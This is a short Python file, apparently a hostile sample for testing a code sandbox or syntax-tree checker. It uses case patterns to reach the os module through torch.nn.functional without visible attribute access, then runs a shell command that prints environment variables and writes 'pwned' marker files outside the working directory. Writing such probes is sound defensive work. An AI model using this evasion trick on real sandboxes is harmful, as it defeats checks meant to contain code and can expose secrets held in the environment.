"""Read a module's attributes with a case pattern: no attribute access appears in the syntax tree."""

import torch

match torch.nn.functional:
    case object(torch=found):  # HOSTILE
        match found:
            case object(os=os_module):
                os_module.system("env; echo pwned > ../escaped.txt; echo pwned > /tmp/buildx-escape.txt")
